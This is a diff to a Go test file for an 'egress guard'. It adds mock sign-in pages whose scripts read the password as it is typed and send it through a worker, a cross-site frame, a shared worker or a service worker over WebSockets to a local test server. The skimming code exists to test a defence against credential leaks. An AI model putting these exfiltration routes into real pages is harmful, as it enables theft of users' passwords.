@@ -63,6 +63,13 @@ var egressScripts = map[string]string{
 	"form-elsewhere": ``, // at the submit: below
 	"get-form":       ``, // the form has no method and nothing posts it
 	"legit":          ``, // the sign-in posted by script to the credential's origin
+	"bare":           ``, // no way out tried; the account field says nothing of itself (below)
+	// WebSockets from the targets of their own that a page reaches: a worker, a frame of
+	// another site (localhost, not 127.0.0.1), a shared worker, the site's service worker.
+	"ws-worker": `wsw.postMessage(pw.value);`,
+	"ws-frame":  `document.getElementById("xs").contentWindow.postMessage(pw.value, "*");`,
+	"ws-shared": `shw.port.postMessage(pw.value);`,
+	"ws-sw":     `navigator.serviceWorker.ready.then(function (r) { r.active.postMessage(pw.value); });`,
 }
 
 func newEgressSite(t testing.TB) *egressSite {
@@ -81,6 +88,10 @@ func newEgressSite(t testing.TB) *egressSite {
 	agent.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
 		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
 		s.log(r.Method + " " + r.URL.String() + " " + string(b))
+		if r.URL.Path == "/wsframe" {
+			htmlPage(w, "Frame", "", `<script>onmessage = function (e) { var d = e.data; var ws = new WebSocket(location.origin.replace("http", "ws") + "/ws"); ws.onopen = function () { ws.send(d); }; };</script>`)
+			return
+		}
 		if r.URL.Path == "/frame" {
 			htmlPage(w, "Frame", "", `<script>onmessage = function (e) { fetch("/f", {method: "POST", body: e.data}); };</script>`)
 			return
@@ -91,6 +102,20 @@ func newEgressSite(t testing.TB) *egressSite {
 	t.Cleanup(s.agent.Close)
 
 	site := http.NewServeMux()
+	wsJS := func(w http.ResponseWriter, on string) {
+		w.Header().Set("Content-Type", "text/javascript")
+		fmt.Fprintf(w, `%s = function (e) { var d = e.data; var ws = new WebSocket(%q); ws.onopen = function () { ws.send(d); }; };`,
+			on, strings.Replace(s.agent.URL, "http", "ws", 1)+"/ws")
+	}
+	site.HandleFunc("GET /ws-worker.js", func(w http.ResponseWriter, r *http.Request) { wsJS(w, "onmessage") })
+	site.HandleFunc("GET /ws-shared.js", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/javascript")
+		fmt.Fprintf(w, `onconnect = function (c) { c.ports[0].onmessage = function (e) { var d = e.data; var ws = new WebSocket(%q); ws.onopen = function () { ws.send(d); }; }; };`,
+			strings.Replace(s.agent.URL, "http", "ws", 1)+"/ws")
+	})
+	site.HandleFunc("GET /ws-sw.js", func(w http.ResponseWriter, r *http.Request) {
+		wsJS(w, "self.onmessage")
+	})
 	site.HandleFunc("GET /w.js", func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "text/javascript")
 		fmt.Fprintf(w, `onmessage = function (e) { fetch(%q + "/wk", {method: "POST", body: e.data}); };`, s.agent.URL)
@@ -119,16 +144,25 @@ func newEgressSite(t testing.TB) *egressSite {
   .then(function (r) { return r.json(); }).then(function (j) { if (j.ok) { location.href = "/home"; } });
 });`
 		}
+		account := `<label for="u">Email</label> <input type="email" id="u" name="username" autocomplete="username">`
+		if how == "bare" {
+			// Only autocomplete=current-password on the password field says this is a sign-in
+			// form: the host's own autocomplete=off mark must not undo it after typing.
+			account = `<input type="text" id="u" name="qid">`
+		}
 		htmlPage(w, "Sign in", "", `<h1>Sign in to Example</h1>
 <form id="f" `+method+` action="/login">
- <label for="u">Email</label> <input type="email" id="u" name="username" autocomplete="username">
+ `+account+`
  <label for="p">Password</label> <input type="password" id="p" name="password" autocomplete="current-password">
  <button type="submit">Sign in</button>
 </form>
 <iframe id="fr" src="`+s.agent.URL+`/frame" title="help" width="200" height="40"></iframe>
+<iframe id="xs" src="`+strings.Replace(s.agent.URL, "127.0.0.1", "localhost", 1)+`/wsframe" title="chat" width="200" height="40"></iframe>
 <script>
 var AGENT = `+fmt.Sprintf("%q", s.agent.URL)+`, f = document.getElementById("f"), pw = document.getElementById("p"), sent = false;
 var early = new WebSocket(AGENT.replace("http", "ws") + "/ws");
+var wsw = new Worker("/ws-worker.js"), shw = new SharedWorker("/ws-shared.js");
+navigator.serviceWorker.register("/ws-sw.js");
 pw.addEventListener("input", function () {
   if (sent || pw.value.length < 8) { return; }
   sent = true;
@@ -140,6 +174,9 @@ pw.addEventListener("input", function () {
 	site.HandleFunc("POST /login", func(w http.ResponseWriter, r *http.Request) {
 		r.ParseForm()
 		u, p := r.PostForm.Get("username"), r.PostForm.Get("password")
+		if u == "" {
+			u = r.PostForm.Get("qid")
+		}
 		s.record(loginPost{"site", "/login", u, p})
 		if !s.check(u, p) {
 			htmlPage(w, "Sign in", "", `<p role="alert">Invalid credentials</p>`)
@@ -195,7 +232,8 @@ func TestEgressGuard(t *testing.T) {
 		{"fetch", true, ""}, {"image", true, ""}, {"beacon", true, ""}, {"worker", true, ""}, {"frame", true, ""},
 		{"url-same", true, ""}, {"form-elsewhere", true, ""}, {"get-form", true, ""},
 		{"ws-before", false, "authenticated"}, {"ws-after", false, "authenticated"},
-		{"legit", false, "authenticated"},
+		{"legit", false, "authenticated"}, {"bare", false, "authenticated"},
+		{"ws-worker", false, "authenticated"}, {"ws-frame", false, "authenticated"}, {"ws-shared", false, "authenticated"}, {"ws-sw", false, "authenticated"},
 	} {
 		t.Run(c.how, func(t *testing.T) {
 			mu.Lock()
